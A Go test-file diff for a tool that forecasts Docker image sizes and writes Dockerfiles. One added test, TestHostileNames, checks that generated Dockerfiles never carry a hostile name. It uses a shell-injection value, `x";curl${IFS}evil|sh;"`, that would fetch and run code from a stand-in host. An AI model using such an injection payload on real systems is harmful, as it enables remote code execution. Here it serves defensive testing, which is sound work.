@@ -189,6 +189,73 @@ func TestForecastCorpus(t *testing.T) {
 	t.Logf("%d Dockerfiles", seen)
 }
 
+// TestHostileNames: what an image, an index or a project's file calls
+// something does not get into a shell.
+func TestHostileNames(t *testing.T) {
+	const evil = `x";curl${IFS}evil|sh;"`
+	archive, err := txtar.ParseFile("testdata/strategy/two-stage.txtar")
+	if err != nil {
+		t.Fatal(err)
+	}
+	tree, image := fstest.MapFS{}, ""
+	for _, f := range archive.Files {
+		switch text := strings.ReplaceAll(string(f.Data), "reports = ", `'`+evil+`' = `); {
+		case f.Name == "image":
+			image = text
+		case !strings.HasPrefix(f.Name, "want/"):
+			tree[f.Name] = &fstest.MapFile{Data: []byte(text)}
+		}
+	}
+	measured, content := imageOf(t, image)
+	p := projectOf(t, string(tree["Dockerfile"].Data), tree, measured, content)
+	p.Extras = map[string][]Weight{evil: {{Name: "z", Bytes: 1, Low: 1, High: 1}}}
+	p.Distroless = &DistrolessBase{Suite: "trixie", Python: "3.13", Packages: []string{"libc6", evil}}
+	for _, keep := range []string{"fine", evil, "a'b"} {
+		p.Clean = Cleanup{Tests: true, KeepTests: []string{keep}}
+		out, err := Forecast(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		given := 0
+		for _, f := range out.Forecasts {
+			if f.Dockerfile != "" {
+				given++
+			}
+			if strings.Contains(f.Dockerfile, "evil") || strings.Contains(f.Dockerfile, "a'b") {
+				t.Errorf("%s:\n%s", f.Strategy, f.Dockerfile)
+			}
+			if strings.HasPrefix(f.Strategy, "split-x") && f.Dockerfile != "" {
+				t.Error("a Dockerfile for an extra that cannot be named")
+			}
+		}
+		if (given > 0) != (keep == "fine") {
+			t.Errorf("KeepTests %q: %d Dockerfiles", keep, given)
+		}
+	}
+}
+
+// TestForecastKnowingLittle: without distributions, records and declarations
+// there are sizes and notes, and no Dockerfile.
+func TestForecastKnowingLittle(t *testing.T) {
+	const source = "FROM python:3.13-slim\nRUN pip install poetry\nCOPY . .\nRUN poetry install --no-root\nCMD [\"flask\"]\n"
+	p := projectOf(t, source, fstest.MapFS{"x": {Data: []byte("x")}}, []measuredFile{{"usr/lib/libc.so", 0, 100}, {"usr/local/x", 1, 50}}, imagetest.Root{})
+	p.Graph, p.Declared, p.Root, p.Context = nil, nil, nil, nil
+	p.Distroless = &DistrolessBase{Suite: "trixie", Python: "3.13", Packages: []string{"libc6"}}
+	out, err := Forecast(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(out.Forecasts) != 2 || len(out.Notes) != 2 {
+		t.Errorf("%d forecasts, notes %q; want alpine, distroless, and two that make no difference", len(out.Forecasts), out.Notes)
+	}
+	for _, f := range out.Forecasts {
+		checkForecast(t, &f)
+		if f.Dockerfile != "" || !slices.ContainsFunc(f.Notes, func(n string) bool { return strings.HasPrefix(n, "no Dockerfile") }) {
+			t.Errorf("%s: notes %q, Dockerfile:\n%s", f.Strategy, f.Notes, f.Dockerfile)
+		}
+	}
+}
+
 func FuzzForecast(f *testing.F) {
 	files, err := filepath.Glob("testdata/strategy/*.txtar")
 	if err != nil {
